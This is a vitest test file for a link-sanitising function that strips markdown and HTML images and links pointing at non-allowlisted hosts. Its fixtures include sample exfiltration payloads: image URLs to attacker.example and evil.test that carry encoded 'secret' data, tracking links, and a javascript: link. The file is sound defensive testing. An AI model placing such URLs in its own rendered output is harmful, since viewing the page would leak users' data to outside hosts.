import { describe, expect, it } from 'vitest';
import { neutraliseLinks } from '../../src/core/index.js';

const HOSTS = ['github.com', 'githubusercontent.com', 'devbot.example.com'];

describe('neutraliseLinks', () => {
  it('removes images that would carry data to another host when the page is viewed', () => {
    const out = neutraliseLinks(
      'Done ![x](https://attacker.example/p.png?d=c2VjcmV0) and <img src="https://evil.test/?t=1"> ' +
        "<img src='//evil.test/a'> ![ok](https://github.com/acme/app/raw/main/a.png)",
      HOSTS,
    );
    expect(out).not.toContain('attacker.example/p.png');
    expect(out).not.toContain('evil.test');
    expect(out).toContain('[image removed: x from attacker.example]');
    expect(out).toContain('![ok](https://github.com/acme/app/raw/main/a.png)');
  });

  it('keeps the text of external links and drops their targets; allowed and relative links stay', () => {
    const out = neutraliseLinks(
      '[docs](https://evil.test/?q=secret) [pr](https://github.com/acme/app/pull/1) [issue](#12) ' +
        '[preview](https://x.devbot.example.com/) [js](javascript:alert(1)) <a href="https://evil.test">x</a>\n' +
        '[ref]: https://evil.test/track',
      HOSTS,
    );
    expect(out).toContain('docs (link to evil.test removed)');
    expect(out).toContain('[pr](https://github.com/acme/app/pull/1)');
    expect(out).toContain('[issue](#12)');
    expect(out).toContain('[preview](https://x.devbot.example.com/)');
    expect(out).not.toContain('javascript:');
    expect(out).not.toMatch(/https:\/\/evil\.test/);
  });

  it('leaves text without links alone', () => {
    const text = 'All 3 tests pass. Closes #4.\n\n```js\nconst a = [1](2);\n```';
    expect(neutraliseLinks('All 3 tests pass. Closes #4.', HOSTS)).toBe('All 3 tests pass. Closes #4.');
    expect(neutraliseLinks(text, HOSTS)).toContain('```js');
  });
});
